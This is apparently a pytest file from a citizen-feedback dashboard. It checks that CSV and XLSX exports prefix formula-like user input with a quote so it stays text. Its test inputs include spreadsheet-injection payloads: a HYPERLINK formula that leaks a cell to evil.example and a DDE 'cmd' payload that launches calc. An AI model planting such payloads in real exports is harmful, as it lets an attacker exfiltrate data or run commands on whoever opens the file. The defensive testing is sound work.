"""CSV/XLSX exports never hand a spreadsheet a formula taken from what citizens or kiosks typed."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest

from core.extensions import db
from core.spreadsheet import safe_cell
from tests.dashboard_support import counter_of, login, respond, tap, unit, user

DAY = date(2026, 11, 3)
NOV = "period=month&value=2026-11"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
ROOT = Path(__file__).resolve().parent.parent


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"))))


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_text_that_would_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(0) == 0
    assert safe_cell("Đỗ Thị Ánh") == "Đỗ Thị Ánh" and safe_cell("") == ""
    assert safe_cell(None) is None


def test_anonymous_comment_and_kiosk_dossier_code_export_as_text(demo, client):
    centre = counter_of("T-DEMO-TTHCC")
    rating = tap(centre, DAY, 5)
    rating.dossier_code = "=1+2"
    respond(centre, DAY, {"TC1": 5}, comment=HYPERLINK)
    db.session.commit()
    user("m", "manager", "T-DEMO-TTHCC")
    login(client, "m")
    centre_id = unit("T-DEMO-TTHCC").id
    ratings = rows_of(client.get(
        f"/admin/dashboard/export/ratings.csv?unit={centre_id}&{NOV}").data)
    header = ratings[0]
    assert ratings[1][header.index("dossier_code")] == "'=1+2"
    assert ratings[1][header.index("level")] == "5"
    responses = rows_of(client.get(
        f"/admin/dashboard/export/responses.csv?unit={centre_id}&{NOV}").data)
    assert responses[1][-1] == "'" + HYPERLINK


def test_xlsx_writes_a_unit_name_like_a_formula_as_text(demo, client):
    centre = unit("T-DEMO-TTHCC")
    centre.name = '=HYPERLINK("http://evil.example/","x")'
    db.session.commit()
    user("m", "manager", "T-DEMO-TTHCC")
    login(client, "m")
    response = client.get(f"/admin/dashboard/export/report.xlsx?unit={centre.id}&{NOV}")
    assert response.status_code == 200
    sheet = zipfile.ZipFile(io.BytesIO(response.data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet, "no cell of the report is a formula"


def test_every_csv_the_product_writes_goes_through_the_one_helper():
    """csv.writer / DictWriter appear only in core/spreadsheet.py."""
    offenders = []
    for path in [*ROOT.glob("core/**/*.py"), *ROOT.glob("admin/**/*.py"),
                 *ROOT.glob("survey/**/*.py"), *ROOT.glob("kiosk/**/*.py")]:
        if path.name == "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
